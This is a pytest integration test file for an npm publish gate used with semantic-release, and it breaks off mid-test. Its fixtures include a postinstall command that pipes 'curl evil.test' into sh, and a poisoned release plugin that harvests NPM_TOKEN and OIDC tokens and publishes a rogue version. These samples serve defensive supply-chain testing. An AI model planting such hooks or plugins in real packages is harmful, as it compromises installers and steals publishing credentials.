"""The semantic-release plugin with the real thing: semantic-release 25 on Node 22, real git, Verdaccio.

Each case builds a real git repo with a local bare remote (`file://` repositoryUrl) and conventional
commits, links the plugin from `integrations/semantic-release/` into its node_modules (as the example
workflow does), and runs the two jobs of examples/semantic-release/release.yml as two processes with the
environments those jobs have (issue 21):

- the `release` job: semantic-release with `CI=true` and the GitHub Actions environment of a push to the
  default branch, and NO npm credential (no NPM_TOKEN, no ACTIONS_ID_TOKEN_REQUEST_*): it gates, pushes
  the tag and leaves the verified tarball in `npm-gatekeeper-release/` plus step outputs;
- the `publish` job: a fresh checkout of GITHUB_SHA, the artifact copied in (download-artifact), and the
  Action run through `run_action` with `tarball`, `approved-integrity`, `tag` and the npm token.

The `gatekeeper` CLI of this checkout talks to the session Verdaccio and the GitHub stand-in. Every case
looks at the registry AND at the remote's tags afterwards.

The plugin's own unit tests (`node --test`) run from here too, so `.ci/run` runs them.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests._support import semrel
from tests._support.github_server import GitHubServer, Repo, WorkflowRun, _now, load_git_history
from tests._support.verdaccio import Verdaccio
from tests._support.workspace import (
    GIT_ENV,
    ActionResult,
    _search,
    assert_no_leak,
    build_env,
    commit_all,
    git,
    head_sha,
    make_package_repo,
    parse_github_output,
    run_action,
    secret_forms,
)

REPO = "acme/widget"
ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples" / "semantic-release"
FAST = {"GATEKEEPER_GITHUB_RETRIES": "2", "GATEKEEPER_GITHUB_BACKOFF": "0.05"}


@pytest.fixture(scope="session")
def semantic_release() -> semrel.SemanticRelease:
    return semrel.ensure_installed()


@pytest.fixture(scope="session")
def gatekeeper_bin(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A `gatekeeper` launcher for this checkout's code (what install-cli.sh makes on a runner)."""
    path = tmp_path_factory.mktemp("gk-bin") / "gatekeeper"
    path.write_text(f'#!/bin/sh\nPYTHONPATH="{ROOT}" exec "{sys.executable}" -m gatekeeper "$@"\n')
    path.chmod(0o755)
    return path


@dataclass
class SemrelRun:
    """What the `release` job left: semantic-release's exit and output, the step outputs, the artifact."""

    returncode: int
    output: str
    summary: str
    report: dict[str, Any] | None
    env: dict[str, str]
    outputs: dict[str, str]
    sha: str  # GITHUB_SHA of the run
    run: WorkflowRun
    artifact: Path  # npm-gatekeeper-release/ in the release job's workspace

    def describe(self) -> str:
        return f"exit {self.returncode}\n{self.output}"


@dataclass
class Project:
    """A package repo that releases with semantic-release, its bare remote, registry user, GitHub state."""

    ws: Path
    remote: Path
    name: str
    token: str
    login_token: str
    repo: Repo
    verdaccio: Verdaccio
    github: GitHubServer
    home: Path
    sr: semrel.SemanticRelease
    gk: Path
    run_id: int = 5000

    def commit(self, message: str, green: bool = True) -> str:
        """Commit everything, push it to the remote's main, make it the branch head on the stand-in."""
        sha = commit_all(self.ws, message)
        git(self.ws, "push", "-q", "origin", "main")
        self.repo.add_commit(sha, "main")
        if green:
            self.repo.add_check_run(sha, "test", "success")
        return sha

    def release(self, extra_env: dict[str, str] | None = None) -> SemrelRun:
        """The `release` job: semantic-release as the example workflow's `Release` step runs it on a push to
        main, with no npm credential in its environment (`extra_env` adds one, as an old single-job workflow)."""
        sha = head_sha(self.ws)
        self.run_id += 1
        run = self.repo.add_workflow_run(sha, run_id=self.run_id)
        job = run.add_job("release", status="in_progress", runner_name="GitHub Actions 2")
        run_dir = self.ws.parent / f"run-{self.run_id}"
        env = build_env(
            self.ws,
            {
                **self.github.env(),
                **FAST,
                "GITHUB_REPOSITORY": REPO,
                "GITHUB_SHA": sha,
                "GITHUB_RUN_ID": str(self.run_id),
            },
            self.home,
            run_dir,
        )
        env = {k: v for k, v in env.items() if not k.startswith("INPUT_")}  # a `run:` step gets no inputs
        env.update(GIT_ENV)
        env.update(
            PATH=f"{self.sr.bin_dir}{os.pathsep}{env['PATH']}",
            GATEKEEPER_BIN=str(self.gk),
            GITHUB_TOKEN=self.github.token or "",
            npm_config_cache=str(self.home / ".npm"),
            npm_config_update_notifier="false",
        )
        env.update(extra_env or {})
        Path(env["GITHUB_EVENT_PATH"]).write_text(
            json.dumps({"ref": "refs/heads/main", "after": sha, "repository": {"fork": False}})
        )
        cmd = [str(self.sr.node), str(self.sr.cli), "--repository-url", self.remote.as_uri()]
        proc = subprocess.run(
            cmd, cwd=self.ws, env=env, capture_output=True, text=True, timeout=300, stdin=subprocess.DEVNULL
        )
        job.status, job.completed_at = "completed", _now()
        job.conclusion = "success" if proc.returncode == 0 else "failure"
        report_path = self.ws / "node_modules/.cache/npm-gatekeeper/report.json"
        report = json.loads(report_path.read_text()) if report_path.exists() else None
        summary = Path(env["GITHUB_STEP_SUMMARY"]).read_text()
        outputs = parse_github_output(Path(env["GITHUB_OUTPUT"]).read_text())
        result = SemrelRun(
            proc.returncode,
            proc.stdout + "\n--- stderr ---\n" + proc.stderr,
            summary,
            report,
            env,
            outputs,
            sha,
            run,
            self.ws / "npm-gatekeeper-release",
        )
        (run_dir / "semantic-release.log").write_text(result.output)  # for a look after a failure
        self.assert_no_leak(result, run_dir)
        # the plugin's private temp dir (verified tarball, step summaries) is gone
        left = [q.name for q in Path(env["TMPDIR"]).iterdir() if q.name != "node-compile-cache"]  # npm's own
        assert not left, left
        return result

    def publish(
        self, rel: SemrelRun, inputs: dict[str, str] | None = None, tamper: bytes | None = None
    ) -> ActionResult:
        """The `publish` job of the same run: checkout of GITHUB_SHA (a fresh clone, detached, as
        actions/checkout does), the artifact downloaded into the workspace, the Action with `tarball`,
        `approved-integrity` and `tag` from the release job's outputs and the npm token. `tamper`: other bytes
        in the artifact (what a compromised release job could upload)."""
        attempt = len(list(self.ws.parent.glob(f"publish-{rel.run.id}-*")))
        ws = self.ws.parent / f"publish-{rel.run.id}-{attempt}"
        git(self.ws.parent, "clone", "-q", self.remote.as_uri(), str(ws))
        git(ws, "checkout", "-q", "--detach", rel.sha)
        (ws / "npm-gatekeeper-release").mkdir()
        for f in rel.artifact.iterdir():
            (ws / "npm-gatekeeper-release" / f.name).write_bytes(f.read_bytes())
        if tamper is not None:
            (ws / "npm-gatekeeper-release" / "package.tgz").write_bytes(tamper)
        # the branch as GitHub sees it now (a release commit may have been pushed by the release job)
        remote_head = git(self.remote, "rev-parse", "refs/heads/main")
        self.repo.add_commit(remote_head, "main")
        load_git_history(self.repo, self.remote)
        job = rel.run.add_job("publish", status="in_progress", runner_name="GitHub Actions 3")
        home = self.ws.parent / f"home-publish-{rel.run.id}-{attempt}"
        home.mkdir()
        env = {
            **self.github.env(),
            **FAST,
            "GITHUB_REPOSITORY": REPO,
            "GITHUB_SHA": rel.sha,
            "GITHUB_RUN_ID": str(rel.run.id),
            "GITHUB_JOB": "publish",
            "RUNNER_NAME": "GitHub Actions 3",
        }
        event = {"ref": "refs/heads/main", "after": rel.sha, "repository": {"fork": False}}
        all_inputs = {
            "npm-token": self.token,
            "github-token": self.github.token or "",
            "registry": self.verdaccio.url,
            "tarball": rel.outputs.get("tarball", ""),
            "approved-integrity": rel.outputs.get("integrity", ""),
            "tag": rel.outputs.get("dist-tag", ""),
            "release-commit": rel.outputs.get("release-commit", ""),
            **(inputs or {}),
        }
        try:
            result = run_action(ws, env, event, home=home, inputs=all_inputs, timeout=180)
        finally:
            # each publish attempt of a test stands alone (not a re-run that leaves a failed check run behind)
            rel.run.jobs.remove(job)
        assert_no_leak(result, self.token)
        assert_no_leak(result, self.login_token)
        return result

    def assert_no_leak(self, result: SemrelRun, run_dir: Path) -> None:
        """Neither token in the output, the summary, or any file of the workspace, HOME or the run."""
        for secret in (self.token, self.login_token):
            forms = secret_forms(secret)
            found = [w for w in ("output", "summary") if _search(getattr(result, w).encode(), forms)]
            for root in (self.ws, self.home, run_dir, self.remote):
                for path in root.rglob("*"):
                    if path.is_symlink() or not path.is_file():
                        continue
                    if _search(path.read_bytes(), forms):
                        found.append(str(path))
            assert not found, f"token leaked to {found}"

    def tags(self) -> list[str]:
        out = git(self.remote, "tag", "--list")
        return sorted(out.split()) if out else []

    def versions(self) -> list[str]:
        doc = self.verdaccio.packument(self.name)
        return sorted((doc or {}).get("versions", {}))

    def integrity(self, version: str) -> str:
        doc = self.verdaccio.packument(self.name)
        assert doc is not None
        return doc["versions"][version]["dist"]["integrity"]


@pytest.fixture
def project(
    verdaccio: Verdaccio,
    github_server: GitHubServer,
    semantic_release: semrel.SemanticRelease,
    gatekeeper_bin: Path,
    tmp_path: Path,
):
    def make(**repo_kw: Any) -> Project:
        user = verdaccio.unique("sr")
        password = "pw-" + user + "-Secret1"
        login = verdaccio.add_user(user, password)
        token = verdaccio.create_token(login, password)
        name = verdaccio.unique("sr-widget")
        remote = tmp_path / "remote.git"
        git(tmp_path, "init", "-q", "--bare", "-b", "main", str(remote))
        files = {
            ".releaserc.json": (EXAMPLES / ".releaserc.json").read_text(),
            **repo_kw.pop("extra_files", {}),
        }
        workflow = (EXAMPLES / "release.yml").read_text()
        manifest = {"publishConfig": {"registry": verdaccio.url}, **repo_kw.pop("manifest", {})}
        ws = make_package_repo(
            tmp_path / "ws",
            name=name,
            version="0.0.0-development",
            extra_files=files,
            workflow=workflow,
            manifest=manifest,
            **repo_kw,
        )
        # the policy file: the gate plugin's registry (plugin config would do the same)
        releaserc = json.loads((ws / ".releaserc.json").read_text())
        releaserc["plugins"][-1] = ["@npm-gatekeeper/semantic-release", {"registry": verdaccio.url}]
        (ws / ".releaserc.json").write_text(json.dumps(releaserc, indent=2) + "\n")
        git(ws, "commit", "-q", "--amend", "-a", "--no-edit")
        git(ws, "remote", "add", "origin", remote.as_uri())
        git(ws, "push", "-q", "-u", "origin", "main")
        # the plugin, linked into node_modules exactly as examples/semantic-release/release.yml does
        (ws / "node_modules" / "@npm-gatekeeper").mkdir(parents=True)
        (ws / "node_modules" / "@npm-gatekeeper" / "semantic-release").symlink_to(semrel.PLUGIN_DIR)
        repo = github_server.repo(REPO, default_branch="main")
        sha = head_sha(ws)
        repo.add_commit(sha, "main")
        repo.add_check_run(sha, "test", "success")
        home = tmp_path / "home"
        home.mkdir()
        return Project(
            ws, remote, name, token, login, repo, verdaccio, github_server, home, semantic_release, gatekeeper_bin
        )

    return make


def _released(p: Project, version: str = "1.0.0") -> None:
    """The last release: `version` on the registry and its tag `v<version>` on the remote (made
    directly, not through semantic-release, to keep the suite lean; the first-release case covers that)."""
    npm = {**p.verdaccio.npm_env(), "npm_config_cache": str(p.home / ".npm")}
    args = ["npm", "version", version, "--no-git-tag-version", "--ignore-scripts"]
    subprocess.run(args, cwd=p.ws, env=npm, check=True, capture_output=True)
    p.verdaccio.publish(p.ws, p.token)
    git(p.ws, "checkout", "-q", "--", "package.json")
    git(p.ws, "tag", f"v{version}")
    git(p.ws, "push", "-q", "origin", f"v{version}")
    assert p.tags() == [f"v{version}"]
    assert p.versions() == [version]


#: Issue 21: the isolation floor refuses to publish from the single job these cases run (semantic-release, its
#: plugins and the NPM_TOKEN in one job); item 3 (branch `semrel`) moves the publish into a job of its own.
# ---------------------------------------------------------------------------------------------------
# the four cases


def _handed_over(p: Project, rel: SemrelRun, version: str) -> None:
    """The release job pushed the tag, published nothing, and handed over the verified tarball."""
    assert rel.returncode == 0, rel.describe()
    assert f"v{version}" in p.tags()
    assert version not in p.versions(), "the release job holds no credential and publishes nothing"
    assert rel.outputs["version"] == version
    assert rel.outputs["tarball"] == "npm-gatekeeper-release/package.tgz"
    data = (rel.artifact / "package.tgz").read_bytes()
    sri = "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
    assert rel.outputs["integrity"] == sri == (rel.artifact / "integrity.txt").read_text().strip()
    assert "nothing was published by this job" in rel.output, rel.describe()
    assert "NPM_TOKEN" not in rel.env and "NODE_AUTH_TOKEN" not in rel.env
    assert not [k for k in rel.env if k.startswith("ACTIONS_ID_TOKEN_REQUEST")]


def test_first_release_two_jobs_the_publish_job_publishes_the_verified_tarball(project) -> None:
    p = project()
    p.commit("feat: the first feature")
    rel = p.release()
    _handed_over(p, rel, "1.0.0")
    assert p.tags() == ["v1.0.0"] and p.versions() == []
    assert "WARN  first-release" in rel.output, rel.describe()
    # prepare wrote the version like @semantic-release/npm (so @semantic-release/git could commit it)
    assert json.loads((p.ws / "package.json").read_text())["version"] == "1.0.0"
    result = p.publish(rel)
    assert result.returncode == 0, result.describe()
    assert p.versions() == ["1.0.0"]
    assert result.report is not None and result.report["published"] is True
    assert result.report["publish"]["integrity"] == rel.outputs["integrity"] == p.integrity("1.0.0")
    assert "first-release" in {f["rule"] for f in result.report["findings"]}
    assert result.report["gates"]["commit"] == "pass" and result.report["gates"]["credential"] == "pass"
    assert "## ✅ npm-gatekeeper" in result.summary and "published" in result.summary


def test_feat_on_green_publishes_the_next_minor_with_the_verified_integrity(project) -> None:
    p = project()
    p.commit("feat: the first feature")
    _released(p)
    (p.ws / "lib.js").write_text("module.exports = 2;\n")
    p.commit("feat: a second feature")
    rel = p.release()
    _handed_over(p, rel, "1.1.0")
    assert p.tags() == ["v1.0.0", "v1.1.0"]
    # the tarball handed over is the one verified in verifyRelease, before the tag existed
    verified = [ln for ln in rel.output.splitlines() if "npm-gatekeeper: verified" in ln]
    assert verified and rel.outputs["integrity"] in verified[0], rel.describe()
    assert "packs to exactly the verified tarball" in rel.output
    result = p.publish(rel)
    assert result.returncode == 0, result.describe()
    assert p.versions() == ["1.0.0", "1.1.0"]
    assert result.report is not None
    assert result.report["package"] == {"name": p.name, "version": "1.1.0"}
    assert result.report["previous"]["version"] == "1.0.0"
    assert result.report["publish"]["integrity"] == p.integrity("1.1.0") == rel.outputs["integrity"]
    assert p.verdaccio.packument(p.name)["dist-tags"]["latest"] == "1.1.0"


def test_fix_adding_a_postinstall_fails_in_verify_release_before_any_tag(project) -> None:
    p = project()
    p.commit("feat: the first feature")
    _released(p)
    pkg = json.loads((p.ws / "package.json").read_text())
    pkg["scripts"]["postinstall"] = "node -e \"require('child_process').exec('curl evil.test|sh')\""
    (p.ws / "package.json").write_text(json.dumps(pkg, indent=2) + "\n")
    p.commit("fix: small fix")
    result = p.release()
    assert result.returncode != 0, result.describe()
    assert p.tags() == ["v1.0.0"], "no tag may be pushed"
    assert p.versions() == ["1.0.0"], "nothing new may reach the registry"
    assert "EGATEKEEPERBLOCKED" in result.output and "verifyRelease" in result.output, result.describe()
    assert "BLOCK lifecycle-script-added" in result.output, result.describe()
    assert "Created tag" not in result.output
    assert result.report is not None and result.report["package"]["version"] == "1.0.1"
    assert "blocked" in result.summary and "lifecycle-script-added" in result.summary
    # package.json was never touched: prepare did not run
    assert json.loads((p.ws / "package.json").read_text())["version"] == "0.0.0-development"


def test_red_check_fails_in_verify_conditions_before_any_tag(project) -> None:
    p = project()
    sha = p.commit("feat: the first feature", green=False)
    p.repo.add_check_run(sha, "test", "failure")
    result = p.release()
    assert result.returncode != 0, result.describe()
    assert p.tags() == []
    assert p.versions() == []
    assert "EGATEKEEPERBLOCKED" in result.output and "verifyConditions" in result.output, result.describe()
    assert "BLOCK check-failed" in result.output
    assert "analyzeCommits" not in result.output.split("EGATEKEEPERBLOCKED")[0].split("verifyConditions")[-1]
    assert result.report is not None and result.report["gates"]["green-build"] == "fail"
    assert result.report["gates"]["diff"] == "skipped"


def test_first_release_policy_block_is_honoured(project) -> None:
    p = project(extra_files={".github/npm-gatekeeper.yml": "diff:\n  first-release: block\n"})
    p.commit("feat: the first feature")
    result = p.release()
    assert result.returncode != 0, result.describe()
    assert p.tags() == [] and p.versions() == []
    assert "BLOCK first-release" in result.output, result.describe()


# ---------------------------------------------------------------------------------------------------
# the plugin's unit tests and the example


def test_plugin_unit_tests_with_node_test(semantic_release: semrel.SemanticRelease, tmp_path: Path) -> None:
    """`node --test` on integrations/semantic-release/test/ (Node 22): the plugin's own unit tests, run
    by the suite like any other test (scripts/test.sh has no separate step for them). Their npm children
    get this test's own npm logs dir and cache (in one full-suite run, 8 of their debug logs reached
    ~/.npm/_logs and failed the host check)."""
    env = {**os.environ, "PATH": f"{semantic_release.bin_dir}{os.pathsep}{os.environ['PATH']}"}
    env.update(npm_config_logs_dir=str(tmp_path / "npm-logs"), npm_config_cache=str(tmp_path / "npm-cache"))
    proc = subprocess.run(
        [str(semantic_release.node), "--test", "--test-reporter=tap", "test/*.test.js"],
        cwd=semrel.PLUGIN_DIR,
        capture_output=True,
        text=True,
        timeout=300,
        env=env,
    )
    sys.stdout.write(proc.stdout + proc.stderr)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "# fail 0" in proc.stdout, proc.stdout


def test_example_releaserc_lists_exactly_the_three_plugins() -> None:
    config = json.loads((EXAMPLES / ".releaserc.json").read_text())
    assert config["plugins"] == [
        "@semantic-release/commit-analyzer",
        "@semantic-release/release-notes-generator",
        "@npm-gatekeeper/semantic-release",
    ]


def test_example_workflow_two_jobs_least_privilege_and_pinned() -> None:
    """The release job holds no npm credential; the publish job runs nothing but checkout, the artifact and the
    gate (the shape the publishing-job floor accepts)."""
    text = (EXAMPLES / "release.yml").read_text()
    wf = yaml.safe_load(text)
    assert wf["permissions"] == {}
    assert wf["jobs"]["test"]["permissions"] == {"contents": "read"}
    release, publish = wf["jobs"]["release"], wf["jobs"]["publish"]
    # release: contents write (the tag), no id-token, no npm secret anywhere in the job
    assert release["permissions"]["contents"] == "write"
    assert "id-token" not in release["permissions"]
    assert "environment" not in release
    release_text = yaml.safe_dump(release)
    for word in ("NPM_TOKEN", "NODE_AUTH_TOKEN", "npm-token", "secrets.NPM"):
        assert word not in release_text, word
    assert set(release["outputs"]) >= {"version", "integrity", "dist-tag", "release-commit"}
    step = next(s for s in release["steps"] if s.get("id") == "semantic-release")
    assert step["run"] == "npx --no-install semantic-release"
    assert set(step["env"]) == {"GITHUB_TOKEN"}
    upload = release["steps"][-1]
    assert upload["uses"].startswith("actions/upload-artifact@") and upload["with"]["path"].startswith(
        "npm-gatekeeper-release"
    )
    # publish: needs release, the environment, exactly checkout + download-artifact + the gate
    assert publish["needs"] == "release" and publish["environment"] == "npm"
    assert "needs.release.outputs.version" in publish["if"]
    uses = [s.get("uses", "").split("@")[0] for s in publish["steps"]]
    assert uses == ["actions/checkout", "actions/download-artifact", "OWNER/npm-gatekeeper"]
    assert all("run" not in s for s in publish["steps"])
    assert publish["steps"][0]["with"]["persist-credentials"] is False
    gate = publish["steps"][2]["with"]
    assert gate["tarball"] == "npm-gatekeeper-release/package.tgz"
    assert gate["approved-integrity"] == "${{ needs.release.outputs.integrity }}"
    assert gate["tag"] == "${{ needs.release.outputs.dist-tag }}"
    assert gate["release-commit"] == "${{ needs.release.outputs.release-commit }}"
    assert gate["npm-token"] == "${{ secrets.NPM_TOKEN }}"
    for line in text.splitlines():
        if line.strip().startswith(("- uses:", "uses:")):
            ref = line.split("uses:", 1)[1].split("#")[0].strip()
            assert len(ref.rsplit("@", 1)[1]) == 40, ref
    assert "--require-hashes" in (semrel.PLUGIN_DIR / "install-cli.sh").read_text()
    assert "only the gate's publish step hands it to npm" not in text


CHANGELOG_PLUGIN = """\
import { appendFileSync } from "node:fs";
import { join } from "node:path";
// a stand-in for @semantic-release/changelog: writes a packed file in prepare, before the gate plugin
export async function prepare(_config, { cwd, nextRelease }) {
  appendFileSync(join(cwd, "CHANGELOG.md"), `## ${nextRelease.version}\\n\\n${nextRelease.notes || ""}\\n`);
}
"""


def test_a_prepare_plugin_before_the_gate_that_changes_packed_files_is_gated_again_before_the_tag(project) -> None:
    p = project(extra_files={"changelog-plugin.mjs": CHANGELOG_PLUGIN, "CHANGELOG.md": "# Changelog\n"})
    releaserc = json.loads((p.ws / ".releaserc.json").read_text())
    releaserc["plugins"].insert(2, "./changelog-plugin.mjs")
    (p.ws / ".releaserc.json").write_text(json.dumps(releaserc, indent=2) + "\n")
    p.commit("feat: the first feature")
    rel = p.release()
    _handed_over(p, rel, "1.0.0")
    assert "differs from the verified tarball" in rel.output, rel.describe()
    # the tarball handed over is the re-gated one (with the changelog), not the first verified one
    verified = [ln.rsplit("(", 1)[1].rstrip(")") for ln in rel.output.splitlines() if "npm-gatekeeper: verified" in ln]
    assert len(verified) == 2 and verified[0] != verified[1], rel.describe()
    assert rel.outputs["integrity"] == verified[1]
    result = p.publish(rel)
    assert result.returncode == 0, result.describe()
    assert p.integrity("1.0.0") == verified[1] == result.report["publish"]["integrity"]


# ---------------------------------------------------------------------------------------------------
# issue 21: the release job holds no credential; the publish job publishes; the release-commit shape


POISONED_PLUGIN = """\
import { spawnSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
// a poisoned dependency of the release process, listed BEFORE the gate plugin: it looks for a credential
// and publishes its own version with whatever it found, during verifyConditions
export async function verifyConditions(_config, { env }) {
  const all = { ...process.env, ...env };
  const seen = Object.keys(all).filter((k) => /^(NPM_TOKEN|NODE_AUTH_TOKEN|ACTIONS_ID_TOKEN_REQUEST_.*)$/.test(k));
  let idToken = "no ACTIONS_ID_TOKEN_REQUEST_URL";
  if (all.ACTIONS_ID_TOKEN_REQUEST_URL) {
    const r = await fetch(all.ACTIONS_ID_TOKEN_REQUEST_URL + "&audience=npm:registry.npmjs.org", {
      headers: { Authorization: "Bearer " + (all.ACTIONS_ID_TOKEN_REQUEST_TOKEN || "") },
    });
    idToken = "HTTP " + r.status;
  }
  const token = all.NPM_TOKEN || all.NODE_AUTH_TOKEN || "";
  const dir = mkdtempSync(join(tmpdir(), "evil-"));
  writeFileSync(join(dir, "package.json"), JSON.stringify({
    name: "__NAME__",
    version: "6.6.6",
    scripts: { postinstall: "node -e \\\"require('child_process').exec('curl evil.test|sh')\\\"" },
  }));
  const auth = token ? "//__HOSTPATH__:_authToken=" + token + "\\n" : "";
  writeFileSync(join(dir, ".npmrc"), "registry=__REGISTRY__\\n" + auth);
  const pub = spawnSync("npm", ["publish", "--registry", "__REGISTRY__", "--userconfig", join(dir, ".npmrc")], {
    cwd: dir, env: all, encoding: "utf8",
  });
  rmSync(dir, { recursive: true, force: true });
  writeFileSync("__MARKER__", JSON.stringify({ seen, idToken, publishExit: pub.status }));
}
"""


def _poisoned_project(project, tmp_path: Path) -> tuple[Project, Path]:
    marker = tmp_path / "poisoned-plugin-saw.json"
    p = project()
    host_path = p.verdaccio.url.split("://", 1)[1].rstrip("/") + "/"
    source = (
        POISONED_PLUGIN.replace("__NAME__", p.name)
        .replace("__REGISTRY__", p.verdaccio.url)
        .replace("__HOSTPATH__", host_path)
        .replace("__MARKER__", str(marker))
    )
    (p.ws / "evil-plugin.mjs").write_text(source)
    releaserc = json.loads((p.ws / ".releaserc.json").read_text())
    releaserc["plugins"].insert(0, "./evil-plugin.mjs")
    (p.ws / ".releaserc.json").write_text(json.dumps(releaserc, indent=2) + "\n")
    return p, marker


def test_a_poisoned_plugin_in_the_release_job_finds_no_credential_and_publishes_nothing(project, tmp_path) -> None:
    p, marker = _poisoned_project(project, tmp_path)
    p.commit("feat: the first feature")
    rel = p.release()
    _handed_over(p, rel, "1.0.0")
    saw = json.loads(marker.read_text())
    assert saw["seen"] == [] and saw["idToken"] == "no ACTIONS_ID_TOKEN_REQUEST_URL", saw
    assert saw["publishExit"] != 0, "npm refuses a publish without credentials"
    assert p.versions() == [], "nothing unexpected on the registry"
    result = p.publish(rel)
    assert result.returncode == 0, result.describe()
    assert p.versions() == ["1.0.0"], "only the verified tarball, published by the publish job"
    assert p.integrity("1.0.0") == rel.outputs["integrity"]


@pytest.mark.parametrize("variable", ["NPM_TOKEN", "NODE_AUTH_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN"], ids=str.lower)
def test_a_single_job_setup_with_a_credential_fails_verify_conditions(project, variable: str) -> None:
    p = project()
    p.commit("feat: the first feature")
    value = p.token if variable != "ACTIONS_ID_TOKEN_REQUEST_TOKEN" else "request-token-of-the-runner"
    rel = p.release({variable: value})
    assert rel.returncode != 0, rel.describe()
    assert "EGATEKEEPERCREDENTIAL" in rel.output and variable in rel.output, rel.describe()
    assert "job `publish`" in rel.output, rel.describe()
    assert value not in rel.output
    assert p.tags() == [] and p.versions() == []
    assert rel.outputs == {} and not rel.artifact.exists()


def test_the_refusal_is_a_tripwire_the_job_split_is_the_protection(project, tmp_path) -> None:
    """What the README's threat-model table says: with the token in the release process (an old single-job
    workflow), a plugin listed before the gate still gets it — the plugin's refusal makes the release fail
    loudly, but only the two-job split keeps the credential away from the release process."""
    p, marker = _poisoned_project(project, tmp_path)
    p.commit("feat: the first feature")
    rel = p.release({"NPM_TOKEN": p.token})
    assert rel.returncode != 0 and "EGATEKEEPERCREDENTIAL" in rel.output, rel.describe()
    assert json.loads(marker.read_text())["seen"] == ["NPM_TOKEN"]
    assert p.versions() == ["6.6.6"], "the bypass the two-job split removes"
    assert p.tags() == []


def test_the_semantic_release_git_release_commit_publishes(project) -> None:
    p = project(extra_files={"CHANGELOG.md": "# Changelog\n", "changelog-plugin.mjs": CHANGELOG_PLUGIN})
    git_plugin = semrel.ensure_git_plugin()
    (p.ws / "node_modules" / "@semantic-release" / "git").parent.mkdir(parents=True, exist_ok=True)
    (p.ws / "node_modules" / "@semantic-release" / "git").symlink_to(git_plugin)
    releaserc = json.loads((p.ws / ".releaserc.json").read_text())
    releaserc["plugins"].insert(2, "./changelog-plugin.mjs")
    releaserc["plugins"].append(
        [
            "@semantic-release/git",
            {"assets": ["package.json", "CHANGELOG.md"], "message": "chore(release): ${nextRelease.version} [skip ci]"},
        ]
    )
    (p.ws / ".releaserc.json").write_text(json.dumps(releaserc, indent=2) + "\n")
    p.commit("feat: the first feature")
    rel = p.release()
    _handed_over(p, rel, "1.0.0")
    head = git(p.remote, "rev-parse", "refs/heads/main")
    assert head != rel.sha and git(p.remote, "rev-parse", f"{head}^") == rel.sha, "a release commit on GITHUB_SHA"
    assert git(p.remote, "rev-parse", "v1.0.0^{commit}") == head
    assert rel.outputs["release-commit"] == head, "the release job names the commit it pushed"
    changed = git(p.remote, "diff", "--name-only", rel.sha, head).split()
    assert sorted(changed) == ["CHANGELOG.md", "package.json"]
    result = p.publish(rel)
    assert result.returncode == 0, result.describe()
    assert p.versions() == ["1.0.0"] and p.integrity("1.0.0") == rel.outputs["integrity"]
    rules = {f["rule"] for f in result.report["findings"]}
    assert "release-commit-accepted" in rules and "not-branch-head" not in rules


def test_a_release_commit_other_than_the_one_the_release_job_reported_blocks(project) -> None:
    """Issue 21: the release commit is bound to the release job's `release-commit` output, not only to its time:
    a release-files-only commit that someone else pushes in its place while the run goes on (its date inside the
    release job's run time, so the date check alone would accept it) blocks."""
    p = project()
    p.commit("feat: the first feature")
    rel = p.release()
    _handed_over(p, rel, "1.0.0")
    assert rel.outputs["release-commit"] == rel.sha  # no prepare plugin committed: the tag names GITHUB_SHA
    pkg = json.loads((p.ws / "package.json").read_text())
    pkg["version"] = "1.0.0"
    pkg["description"] = "pushed by someone else during the run"
    # committed now: within the clock skew the date check allows after the release job ended
    head = _move_head(p, rel, {"package.json": json.dumps(pkg, indent=2) + "\n"})
    result = p.publish(rel)
    assert result.returncode == 1, result.describe()
    blocking = [f for f in result.report["findings"] if f["severity"] == "block"]
    assert [f["rule"] for f in blocking] == ["not-branch-head"], result.describe()
    assert "not the release commit the release job reported" in blocking[0]["message"], blocking[0]["message"]
    assert p.versions() == []
    # the same commit with the date check alone (an older workflow without the input) is accepted: the binding is
    # what stops it
    legacy = p.publish(rel, inputs={"release-commit": ""})
    rules = {f["rule"] for f in legacy.report["findings"]}
    assert legacy.returncode == 0 and "release-commit-accepted" in rules, legacy.describe()
    assert p.versions() == ["1.0.0"] and git(p.remote, "rev-parse", "refs/heads/main") == head


def _move_head(p: Project, rel: SemrelRun, files: dict[str, str], *, commits: int = 1, date: str | None = None) -> str:
    """Push `commits` commits on top of GITHUB_SHA to the remote's main (force), each writing `files`."""
    other = p.ws.parent / f"mover-{len(list(p.ws.parent.glob('mover-*')))}"
    git(p.ws.parent, "clone", "-q", p.remote.as_uri(), str(other))
    git(other, "checkout", "-q", "-B", "main", rel.sha)
    env = {**os.environ, **GIT_ENV, **({"GIT_COMMITTER_DATE": date, "GIT_AUTHOR_DATE": date} if date else {})}
    for i in range(commits):
        for rel_path, text in files.items():
            (other / rel_path).write_text(text + f"\n// {i}\n" if rel_path.endswith(".js") else text)
        subprocess.run(["git", "add", "-A"], cwd=other, check=True, env=env)
        subprocess.run(
            ["git", "commit", "-q", "--allow-empty", "-m", f"chore: moved {i}"], cwd=other, check=True, env=env
        )
    git(other, "push", "-q", "-f", "origin", "main")
    return head_sha(other)


def test_any_other_moved_head_blocks_and_other_bytes_block(project) -> None:
    p = project()
    p.commit("feat: the first feature")
    rel = p.release()
    _handed_over(p, rel, "1.0.0")
    pkg = (p.ws / "package.json").read_text()
    cases = [
        ("a commit changing code", {"index.js": "module.exports = 'changed';"}, {}, "not release files"),
        (
            "a release-file commit made before the run",
            {"package.json": pkg},
            {"date": "2001-01-01T00:00:00Z"},
            "not the release commit the release job reported",
        ),
        # an older workflow that does not pass `release-commit`: the commit's date decides
        (
            "a release-file commit made before the run, no release-commit input",
            {"package.json": pkg},
            {"date": "2001-01-01T00:00:00Z", "legacy": True},
            "not while",
        ),
        ("two commits", {"package.json": pkg}, {"commits": 2}, "exactly one commit"),
    ]
    for label, files, kw, why in cases:
        legacy = kw.pop("legacy", False)
        _move_head(p, rel, files, **kw)
        result = p.publish(rel, inputs={"release-commit": ""} if legacy else None)
        assert result.returncode == 1, label + "\n" + result.describe()
        blocking = [f for f in result.report["findings"] if f["severity"] == "block"]
